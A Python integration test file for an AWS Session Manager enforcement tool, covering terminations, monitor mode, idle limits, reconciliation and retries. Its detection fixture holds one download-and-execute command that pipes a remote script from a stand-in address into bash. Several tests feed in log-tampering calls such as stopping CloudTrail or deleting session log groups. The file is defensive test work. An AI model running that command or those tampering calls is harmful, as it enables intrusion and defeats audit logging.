"""Enforcement over the local stack: terminations, monitor mode, idempotency, limits, reconciliation,
start-time checks, tamper signals and failing terminations. Every AWS call goes to the moto server."""

from __future__ import annotations

from datetime import timedelta

import pytest

from ssm_warden.clients import aws_client
from ssm_warden.config import reset_settings
from ssm_warden.enforce.decide import decide_findings
from ssm_warden.enforce.session_ref import session_facts, session_ref
from ssm_warden.models.audit import Decision
from ssm_warden.models.findings import Finding, Severity
from ssm_warden.models.session import SessionState
from ssm_warden.policy.evaluate import effective_settings
from ssm_warden.policy.store import current_policy
from ssm_warden_local import moto_sessions
from ssm_warden_local.lambda_runtime import queue_depth
from tests.conftest import ACCOUNT, REGION
from tests.integration.enforce.conftest import Warden, at

CURL_BASH = Finding(
    rule="download_exec.pipe_to_shell",
    title="Download piped into a shell",
    severity=Severity.HIGH,
    category="download_exec",
    attack="T1059.004",
    reason="curl output is executed by bash",
    command="curl -fsSL http://203.0.113.5/x.sh | bash",
)


def finding_action(warden: Warden, session_id: str, source_id: str = "evt-1") -> list:  # type: ignore[type-arg]
    record = warden.session(session_id)
    state = current_policy()
    settings = effective_settings(state.policy.policy, session_facts(record))
    from ssm_warden.config import get_settings

    decisions = decide_findings(
        session=session_ref(record),
        findings=[CURL_BASH],
        settings=settings,
        policy=state.policy,
        now=at("2026-11-28T09:05:00Z"),
        source_id=source_id,
        force_monitor=get_settings().force_monitor_mode,
    )
    return decisions.actions


def test_risky_command_in_prod_terminates_the_session_and_says_why(warden: Warden) -> None:
    # Given a prod session
    sid = warden.start(warden.instance(Environment="prod"))
    # When a finding that prod terminates for goes through the action path
    actions = finding_action(warden, sid)
    assert [a.kind.value for a in actions] == ["terminate"]
    warden.submit(*actions)
    warden.run_executor()
    # Then the session is terminated in Session Manager, the ledger and the audit trail say why,
    # and one alert went out saying it was terminated
    assert warden.status_at_aws(sid) == "Terminated"
    record = warden.session(sid)
    assert record.state is SessionState.TERMINATED
    assert record.ended_by == "ssm-warden"
    assert record.termination is not None
    assert record.termination["rule_or_limit"] == "download_exec.pipe_to_shell"
    assert record.termination["mode"] == "enforce"
    assert record.termination["policy_version"] == current_policy().policy.version
    decisions = [(r.decision, r.rule_or_limit) for r in warden.audit(sid)]
    assert (Decision.TERMINATION, "download_exec.pipe_to_shell") in decisions
    assert warden.outcomes() == [("download_exec.pipe_to_shell", "terminated")]


def test_monitor_mode_terminates_nothing_and_says_would_terminate(
    warden: Warden, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_MONITOR_MODE", "true")
    reset_settings()
    sid = warden.start(warden.instance(Environment="prod"))
    warden.submit(*finding_action(warden, sid))
    warden.run_executor()
    assert warden.status_at_aws(sid) == "Connected"
    assert warden.session(sid).state is SessionState.ACTIVE
    assert warden.outcomes() == [("download_exec.pipe_to_shell", "would_terminate")]
    assert Decision.WOULD_TERMINATE in [r.decision for r in warden.audit(sid)]


def test_a_terminate_request_delivered_twice_terminates_once_and_alerts_once(warden: Warden) -> None:
    sid = warden.start(warden.instance(Environment="prod"))
    actions = finding_action(warden, sid)
    # The same decision reached twice (a redelivered log batch) makes the same action id
    assert finding_action(warden, sid)[0].action_id == actions[0].action_id
    warden.submit(*actions)
    warden.submit(*actions)
    warden.run_executor()
    assert moto_sessions.get_session(ACCOUNT, REGION, sid).terminate_calls == 1  # type: ignore[union-attr]
    assert len(warden.notifier.delivered) == 1
    assert [r.decision for r in warden.audit(sid)].count(Decision.TERMINATION) == 1


def test_idle_limit_warns_then_terminates_a_dev_session(warden: Warden) -> None:
    # Given a dev session (idle 30 min, warned 5 min before) that last printed at 09:00:30
    sid = warden.start(warden.instance(Environment="dev"))
    warden.output(sid, "2026-11-28T09:00:30Z")
    # When the sweeper runs before the warning window nothing happens
    warden.sweep(at("2026-11-28T09:20:00Z"))
    assert warden.queued() == 0
    # At 09:26 it warns, once
    warden.sweep(at("2026-11-28T09:26:00Z"))
    warden.sweep(at("2026-11-28T09:27:00Z"))
    warden.run_executor()
    assert warden.outcomes() == [("idle_minutes", "warned")]
    # At 09:31 it terminates
    warden.sweep(at("2026-11-28T09:31:00Z"))
    warden.run_executor()
    assert warden.outcomes()[-1] == ("idle_minutes", "terminated")
    assert warden.status_at_aws(sid) == "Terminated"
    assert warden.session(sid).termination["rule_or_limit"] == "idle_minutes"  # type: ignore[index]


def test_output_moves_the_idle_deadline(warden: Warden) -> None:
    from ssm_warden.ledger.repository import SessionRepository

    sid = warden.start(warden.instance(Environment="dev"))
    SessionRepository().touch_output(ACCOUNT, REGION, sid, at("2026-11-28T09:20:00Z"), timedelta(minutes=1))
    warden.sweep(at("2026-11-28T09:31:00Z"))
    assert warden.queued() == 0  # 11 minutes since the last output: not idle yet


def test_the_idle_limit_reads_the_exact_last_output_when_the_ledger_says_it_is_due(warden: Warden) -> None:
    from ssm_warden.ledger.repository import SessionRepository

    repo = SessionRepository()
    sid = warden.start(warden.instance(Environment="dev"))
    # Given a session whose item was last brought up to date by the command watch at 09:00 (it does
    # that every few minutes) while its watch item holds its last output, at 09:20
    assert repo.flush_watch(
        ACCOUNT, REGION, sid, batches=1, commands=1, findings=0, output_at=at("2026-11-28T09:00:00Z")
    )
    assert repo.save_watch(
        ACCOUNT,
        REGION,
        sid,
        values={"n": 2, "out": "2026-11-28T09:20:00Z", "c": 1, "f": 0},
        previous_batches=None,
        now=at("2026-11-28T09:20:00Z"),
    )
    # When the sweeper runs at 09:31, when the coarse time says the session is past its idle limit
    warden.sweep(at("2026-11-28T09:31:00Z"))
    # Then nothing happens: 11 minutes since the last output
    assert warden.queued() == 0
    # And the limit still holds from the exact time: warned, then terminated
    warden.sweep(at("2026-11-28T09:46:00Z"))
    warden.sweep(at("2026-11-28T09:51:00Z"))
    warden.run_executor()
    assert warden.outcomes() == [("idle_minutes", "warned"), ("idle_minutes", "terminated")]


def test_max_duration_applies_to_port_forwarding_but_idle_does_not(warden: Warden) -> None:
    # Given a port-forwarding session on a dev host (no output is ever streamed)
    warden.start(warden.instance(Environment="dev"), document="AWS-StartPortForwardingSession")
    # Long past the idle limit nothing happens
    warden.sweep(at("2026-11-28T11:00:00Z"))
    assert warden.queued() == 0
    # Past the 480-minute maximum it is terminated
    warden.sweep(at("2026-11-28T17:01:00Z"))
    warden.run_executor()
    assert warden.outcomes() == [("max_minutes", "terminated")]


def test_an_exemption_suppresses_the_limit_and_is_audited(
    warden: Warden, tmp_path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    from ssm_warden.policy.loader import bundled_policy_text

    policy = tmp_path / "policy.yaml"
    policy.write_text(
        bundled_policy_text().replace(
            "exemptions: []",
            "exemptions:\n  - principal: 'arn:aws:sts::*:assumed-role/Admin/*'\n    rule: idle_minutes\n"
            "    expires: 2026-12-31T00:00:00Z\n    reason: reindex prints nothing (CHG-9)\n",
        )
    )
    monkeypatch.setenv("POLICY_FILE", str(policy))
    reset_settings()
    sid = warden.start(warden.instance(Environment="dev"))
    warden.output(sid, "2026-11-28T09:00:30Z")
    warden.sweep(at("2026-11-28T09:45:00Z"))
    assert warden.queued() == 0
    suppressed = [r for r in warden.audit(sid) if r.decision is Decision.SUPPRESSED]
    assert suppressed and "CHG-9" in suppressed[0].outcome


def test_reconciliation_finds_a_missed_start_and_closes_a_silent_end(warden: Warden) -> None:
    # Given a session whose StartSession event never arrived
    missed = warden.start(warden.instance(Environment="dev"), record=False)
    # and a session that ended with `exit` (no TerminateSession event)
    silent = warden.start(warden.instance(Environment="dev"))
    moto_sessions.end_session_from_host(ACCOUNT, REGION, silent, at("2026-11-28T09:10:00Z"))
    # When the sweeper runs
    report = warden.sweep(at("2026-11-28T09:15:00Z"))
    # Then the missed one is in the ledger as discovered, with its target's tags
    assert (report.discovered, report.closed) == (1, 1)
    found = warden.session(missed)
    assert found.discovered and found.state is SessionState.ACTIVE
    assert found.target_tags == {"Environment": "dev"}
    # and the silent one is ended, with the end time Session Manager reports
    ended = warden.session(silent)
    assert ended.state is SessionState.ENDED
    assert ended.ended_at == at("2026-11-28T09:10:00Z")
    assert warden.audit(silent)[0].outcome.startswith("closed by reconciliation")
    # and its end-of-session summary is requested (the thread, if any, is updated with it)
    import json

    sqs = aws_client("sqs")
    bodies = [
        json.loads(m["Body"])
        for m in sqs.receive_message(QueueUrl=warden.queue, MaxNumberOfMessages=10).get("Messages", [])
    ]
    summaries = [b["session"]["session_id"] for b in bodies if b["kind"] == "summary"]
    assert summaries == [silent]


def test_port_forwarding_into_prod_is_terminated_at_start(warden: Warden) -> None:
    sid = warden.start(
        warden.instance(Environment="prod"), document="AWS-StartPortForwardingSessionToRemoteHost"
    )
    warden.run_executor()
    assert warden.outcomes() == [("document_not_allowed", "terminated")]
    assert warden.status_at_aws(sid) == "Terminated"


def test_missing_reason_in_prod_alerts(warden: Warden) -> None:
    sid = warden.start(warden.instance(Environment="prod"), reason=None)
    warden.run_executor()
    assert warden.outcomes() == [("missing_reason", "alert_only")]
    assert warden.status_at_aws(sid) == "Connected"


def test_concurrency_limit_acts_on_the_newest_session(warden: Warden) -> None:
    # Given prod allows 2 open sessions per principal, and three start at once
    host = warden.instance(Environment="prod")
    ids = [warden.start(host, at=f"2026-11-28T09:00:0{n}Z") for n in range(3)]
    warden.run_executor()
    # Then only the newest is terminated
    assert warden.outcomes() == [("concurrency", "terminated")]
    assert [warden.status_at_aws(s) for s in ids] == ["Connected", "Connected", "Terminated"]


def test_denied_start_on_a_prod_host_alerts(warden: Warden) -> None:
    import copy

    from tests.conftest import load_event

    host = warden.instance(Environment="prod")
    event = copy.deepcopy(load_event("start_session_denied.json"))
    event["detail"]["requestParameters"]["target"] = host
    assert warden.deliver(event)["kind"] == "denied"
    warden.run_executor()
    assert warden.outcomes() == [("denied_start", "alert_only")]
    # and on a dev host it is only recorded (default: observe)
    event["detail"]["eventID"] = "another-event"
    event["detail"]["requestParameters"]["target"] = warden.instance(Environment="dev")
    warden.deliver(event)
    assert warden.queued() == 0


def test_a_shell_session_without_a_log_stream_is_a_blind_spot(warden: Warden) -> None:
    sid = warden.start(warden.instance(Environment="dev"))
    warden.sweep(at("2026-11-28T09:02:00Z"))
    assert warden.queued() == 0
    warden.sweep(at("2026-11-28T09:04:00Z"))
    warden.sweep(at("2026-11-28T09:05:00Z"))
    warden.run_executor()
    assert warden.outcomes() == [("logging_gap", "alert_only")]
    assert warden.session(sid).state is SessionState.ACTIVE


@pytest.mark.parametrize(
    ("source", "name", "params", "expected_title"),
    [
        (
            "ssm.amazonaws.com",
            "UpdateDocument",
            {
                "name": "SSM-SessionManagerRunShell",
                "content": '{"inputs": {"cloudWatchStreamingEnabled": false}}',
            },
            "Session log streaming switched off",
        ),
        (
            "ssm.amazonaws.com",
            "UpdateDocumentDefaultVersion",
            {"name": "SSM-SessionManagerRunShell"},
            "Session Manager preferences changed",
        ),
        (
            "logs.amazonaws.com",
            "DeleteSubscriptionFilter",
            {"logGroupName": "/aws/ssm/sessions"},
            "Session log group: DeleteSubscriptionFilter",
        ),
        (
            "logs.amazonaws.com",
            "DeleteLogGroup",
            {"logGroupName": "/aws/ssm/sessions"},
            "Session log group: DeleteLogGroup",
        ),
        (
            "logs.amazonaws.com",
            "PutRetentionPolicy",
            {"logGroupName": "/aws/ssm/sessions", "retentionInDays": 1},
            "Session log group: PutRetentionPolicy",
        ),
        ("cloudtrail.amazonaws.com", "StopLogging", {"name": "main"}, "CloudTrail StopLogging"),
        ("cloudtrail.amazonaws.com", "DeleteTrail", {"name": "main"}, "CloudTrail DeleteTrail"),
    ],
)
def test_tamper_signals_alert(
    warden: Warden, source: str, name: str, params: dict, expected_title: str
) -> None:  # type: ignore[type-arg]
    import copy

    from tests.conftest import load_event

    event = copy.deepcopy(load_event("start_session_shell.json"))
    event["source"] = "aws." + source.split(".", maxsplit=1)[0]
    event["detail"].update(
        eventSource=source, eventName=name, requestParameters=params, responseElements=None
    )
    assert warden.deliver(event)["status"] == "tamper"
    warden.run_executor()
    assert [d.action.title for d in warden.notifier.delivered] == [expected_title]


def test_tamper_calls_on_other_resources_are_ignored(warden: Warden) -> None:
    import copy

    from tests.conftest import load_event

    event = copy.deepcopy(load_event("start_session_shell.json"))
    event["detail"].update(
        eventSource="logs.amazonaws.com",
        eventName="DeleteLogGroup",
        requestParameters={"logGroupName": "/app/web"},
        responseElements=None,
    )
    assert warden.deliver(event)["alerts"] == 0


def test_a_failing_termination_is_retried_then_dead_lettered_and_audited(warden: Warden) -> None:
    sid = warden.start(warden.instance(Environment="prod"))
    # Given TerminateSession is throttled, then fails with internal errors, for longer than retries last
    moto_sessions.inject_faults(
        ACCOUNT, REGION, "TerminateSession", ["ThrottlingException"] * 4 + ["InternalServerError"] * 20
    )
    warden.submit(*finding_action(warden, sid))
    # When the executor works through the queue (each delivery tries twice with backoff)
    report = warden.run_executor()
    # Then the request was delivered five times (the queue's maxReceiveCount) and now waits in the DLQ
    assert report.failed == 5
    assert queue_depth(aws_client("sqs"), warden.dead_letters) == 1
    assert warden.status_at_aws(sid) == "Connected"
    failures = [r for r in warden.audit(sid) if r.decision is Decision.ACTION_FAILED]
    assert [r.details["attempt"] for r in failures] == [1, 2, 3, 4, 5]
    assert "ThrottlingException" in failures[0].outcome and "InternalServerError" in failures[-1].outcome
    # and people were told once, on the last attempt, that it failed
    assert warden.outcomes() == [("download_exec.pipe_to_shell", "failed")]
    # And once the fault clears, a redrive from the DLQ terminates it (nothing was lost)
    moto_sessions.store(ACCOUNT, REGION).faults.clear()
    sqs = aws_client("sqs")
    for message in sqs.receive_message(QueueUrl=warden.dead_letters, MaxNumberOfMessages=10)["Messages"]:
        sqs.send_message(QueueUrl=warden.queue, MessageBody=message["Body"])
        sqs.delete_message(QueueUrl=warden.dead_letters, ReceiptHandle=message["ReceiptHandle"])
    warden.run_executor()
    assert warden.status_at_aws(sid) == "Terminated"
    assert warden.outcomes()[-1] == ("download_exec.pipe_to_shell", "terminated")


def test_audit_command_prints_the_trail_of_a_session(
    warden: Warden, capsys: pytest.CaptureFixture[str]
) -> None:
    from ssm_warden.cli import main as cli

    sid = warden.start(warden.instance(Environment="prod"))
    warden.submit(*finding_action(warden, sid))
    warden.run_executor()
    capsys.readouterr()
    assert cli(["audit", sid]) == 0
    out = capsys.readouterr().out
    assert "termination" in out and "download_exec.pipe_to_shell" in out
    assert cli(["audit", "nobody-0000"]) == 1
